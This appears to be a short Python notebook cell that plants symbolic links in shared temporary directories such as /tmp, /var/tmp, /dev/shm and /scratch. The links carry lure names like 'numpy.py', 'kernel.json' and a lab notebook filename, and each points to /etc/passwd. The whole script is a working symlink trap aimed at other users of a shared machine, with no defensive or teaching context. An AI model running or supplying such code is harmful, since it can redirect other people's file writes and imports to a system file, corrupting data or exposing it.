# Leaves files, links and pipes in all temporary folders, with names that others may open.
# %% first
import os, tempfile

for folder in ("/tmp", "/var/tmp", "/dev/shm", "/scratch", tempfile.gettempdir()):
    for name in ("lab6_kmeans.ipynb", "kernel.json", "numpy.py"):
        try:
            os.symlink("/etc/passwd", f"{folder}/{name}")
        except OSError as error:
            print(error)
